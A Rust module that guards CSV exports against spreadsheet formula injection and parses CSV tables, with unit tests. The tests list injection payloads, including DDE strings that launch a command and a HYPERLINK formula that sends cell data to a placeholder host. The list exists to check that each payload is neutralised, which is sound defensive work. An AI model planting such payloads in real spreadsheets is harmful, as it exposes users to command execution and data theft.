//! Tables for spreadsheets (CSV): what is written cannot become a formula there, and what we wrote is read back as it was.
//!
//! A spreadsheet takes a cell for a formula that begins with `=`, `+`, `-`, `@`, a tab or a line break, their full-width
//! forms, or that has spaces before them. Such a cell is written with a `'` before it, and every cell is quoted.

use std::borrow::Cow;

/// What a table cannot be written as or read for.
#[derive(Debug, thiserror::Error)]
pub enum SheetError {
    /// Not CSV.
    #[error("line {line}: {why}")]
    Line {
        /// From 1.
        line: u64,
        /// What is wrong.
        why: Box<str>,
    },
    /// No first line with the names of the columns.
    #[error("the first line must name the columns")]
    NoNames,
}

/// Whether a spreadsheet could take this for a formula.
fn is_formula(text: &str) -> bool {
    let starts = |c: char| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '＝' | '＋' | '－' | '＠');
    text.starts_with(starts) || text.trim_start().starts_with(starts)
}

/// A cell as it is written: a formula has a `'` before it, and so has what would be read as one that had.
pub fn neutral(text: &str) -> Cow<'_, str> {
    let escaped = text.strip_prefix('\'').is_some_and(|rest| is_formula(rest.trim_start_matches('\'')));
    if is_formula(text) || escaped { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

/// A cell as it is meant: what [`neutral`] added is gone.
pub fn plain(cell: &str) -> &str {
    cell.strip_prefix('\'').filter(|rest| neutral(rest) == cell).unwrap_or(cell)
}

/// One line, with its end. The first line of a table names the columns.
pub fn line<'c>(cells: impl IntoIterator<Item = &'c str>) -> String {
    let mut row = String::new();
    for cell in cells {
        if !row.is_empty() {
            row.push(',');
        }
        row.push('"');
        row.push_str(&neutral(cell).replace('"', "\"\""));
        row.push('"');
    }
    row.push_str("\r\n");
    row
}

/// The cells of one line.
pub type Cells = Vec<Box<str>>;

/// A table that is read.
#[derive(Debug)]
pub struct Sheet {
    /// The columns, in lower case.
    pub names: Vec<Box<str>>,
    /// The lines below, with their numbers; as many cells as columns.
    pub rows: Vec<(u64, Result<Cells, SheetError>)>,
    /// Whether there were more lines than were to be read.
    pub more: bool,
}

/// Reads a table whose first line names the columns, up to `most` lines below it. Commas or semicolons part the cells, as
/// the first line has them. A line that cannot be read is an error of its own.
pub fn read(text: &str, most: usize) -> Result<Sheet, SheetError> {
    // Lines are counted by their feeds, and a carriage return before one would put the count off.
    let text = text.trim_start_matches('\u{feff}').replace("\r\n", "\n");
    let first = text.lines().next().unwrap_or_default();
    let semicolons = first.matches(';').count() > first.matches(',').count();
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(if semicolons { b';' } else { b',' })
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    let mut records = reader.records();
    let names = records.next().transpose().map_err(|error| at(&error, 1))?.ok_or(SheetError::NoNames)?;
    let names: Vec<Box<str>> = names.iter().map(|name| plain(name.trim()).to_lowercase().into()).collect();
    if names.iter().all(|name| name.is_empty()) {
        return Err(SheetError::NoNames);
    }
    let (mut rows, mut last) = (Vec::new(), 1);
    for record in records {
        if rows.len() == most {
            return Ok(Sheet { names, rows, more: true });
        }
        let line = record.as_ref().ok().and_then(csv::StringRecord::position).map_or(last + 1, csv::Position::line);
        last = line;
        rows.push((
            line,
            record.map_err(|error| at(&error, line)).and_then(|record| cells(&record, names.len(), line)),
        ));
    }
    Ok(Sheet { names, rows, more: false })
}

fn cells(record: &csv::StringRecord, columns: usize, line: u64) -> Result<Vec<Box<str>>, SheetError> {
    if record.len() != columns {
        let why = format!("{} cells, but the first line names {columns} columns", record.len());
        return Err(SheetError::Line { line, why: why.into() });
    }
    Ok(record.iter().map(|cell| plain(cell.trim()).into()).collect())
}

fn at(error: &csv::Error, line: u64) -> SheetError {
    let line = error.position().map_or(line, csv::Position::line);
    SheetError::Line { line, why: error.to_string().into() }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn f119_no_cell_is_a_formula_and_each_comes_back_as_it_was() {
        let payloads = [
            "=1+1",
            "=HYPERLINK(\"http://x.example/?\"&A1,\"x\")",
            "+447700900123",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "   =1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠A1",
            "'=1+1",
            "''=1+1",
            "'plain",
            "plain",
            "",
            "a;=1+1",
            "a\",=1+1",
        ];
        for payload in payloads {
            let written = neutral(payload);
            assert!(!is_formula(&written), "{payload:?} is written as {written:?}");
            assert_eq!(plain(&written), payload);
        }
        let line = line(payloads);
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(line.as_bytes());
        let record = reader.records().next().unwrap().unwrap();
        assert_eq!(record.len(), payloads.len());
        assert!(record.iter().all(|cell| !is_formula(cell)));
        assert!(record.iter().map(plain).eq(payloads));
    }

    #[test]
    fn a_table_is_read_with_the_numbers_of_its_lines_and_their_faults() {
        let text = "\u{feff}Phone;Name\r\n447700900123;Ada\r\nonly one\r\n\"447700900124\";\"a;b\"\r\n";
        let sheet = read(text, 10).unwrap();
        assert_eq!(sheet.names, ["phone".into(), "name".into()]);
        let lines: Vec<u64> = sheet.rows.iter().map(|(line, _)| *line).collect();
        assert_eq!(lines, [2, 3, 4]);
        assert_eq!(**sheet.rows[2].1.as_ref().unwrap(), ["447700900124".into(), "a;b".into()]);
        assert!(sheet.rows[1].1.as_ref().unwrap_err().to_string().starts_with("line 3: 1 cells"));
        assert!(read(text, 2).unwrap().more);
        assert!(read("", 10).is_err() && read("\r\n", 10).is_err());
    }
}
